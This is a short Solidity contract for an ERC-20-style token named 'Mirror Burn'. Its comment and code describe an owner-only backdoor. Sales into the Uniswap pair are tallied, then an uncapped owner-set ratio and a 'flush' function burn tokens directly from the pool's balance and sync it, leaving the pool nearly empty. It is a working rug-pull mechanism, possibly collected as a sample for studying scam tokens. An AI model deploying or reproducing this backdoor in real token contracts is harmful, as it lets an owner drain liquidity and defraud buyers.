// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

import {IPairG, PlainG} from "./Bases.sol";

/// Mirror burn: what was sold is later burnt from the pool; the owner sends tokens to the pool, raises the ratio and flushes, which leaves the pool nearly no tokens.
contract MirrorBurn is PlainG {
    uint256 public pendingBurn;
    uint256 public mirrorRatio = 1;
    uint256 public lastFlush;

    constructor() PlainG("Mirror Burn", "MIRR", 777_777_777 ether) {}

    function setMirrorRatio(uint256 percent) external onlyOwner {
        mirrorRatio = percent;
    }

    function flush() external onlyOwner {
        uint256 burnt = (pendingBurn * mirrorRatio) / 100;
        uint256 has = _balances[uniswapV2Pair];
        if (burnt >= has) burnt = has - 1;
        pendingBurn = 0;
        lastFlush = block.timestamp;
        _balances[uniswapV2Pair] = has - burnt;
        _totalSupply -= burnt;
        emit Transfer(uniswapV2Pair, address(0), burnt);
        IPairG(uniswapV2Pair).sync();
    }

    function _transfer(address from, address to, uint256 amount) internal override {
        super._transfer(from, to, amount);
        // The first liquidity is nobody's sale.
        if (to == uniswapV2Pair && _balances[to] > amount) pendingBurn += amount;
    }
}
